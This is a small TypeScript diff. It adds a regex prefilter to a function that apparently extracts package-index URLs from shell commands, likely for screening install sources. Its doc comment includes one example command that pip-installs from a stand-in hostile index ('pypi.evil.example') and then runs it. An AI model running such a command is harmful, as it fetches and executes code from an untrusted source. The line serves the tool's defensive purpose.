@@ -154,10 +154,15 @@ function sourcesOfWords(words: readonly string[]): string[] {
  * @example
  * packageSourcesOfCommand(['sh', '-c', "python3 -m pip install --index-url https://pypi.evil.example/simple 'x' && \"$0\""]) // ['https://pypi.evil.example/simple']
  */
+/** Every string packageSourcesOfCommand can read a source from names one of these (case aside). */
+const MAY_INSTALL = /pip|uv|poetry|conda|mamba|index|find[-_]links/i;
+
 export function packageSourcesOfCommand(parts: readonly unknown[]): string[] {
   const strings = parts.filter((p): p is string => typeof p === 'string');
   const out = sourcesOfWords(strings);
   for (const part of strings) {
+    // Most commands install nothing: the shell reading is skipped for a string naming no installer nor index.
+    if (!MAY_INSTALL.test(part)) continue;
     for (const words of shellCommands(part)) out.push(...sourcesOfWords(words));
     for (const m of part.matchAll(CONFIG_INDEX_KEY)) out.push(m[1]!);
   }
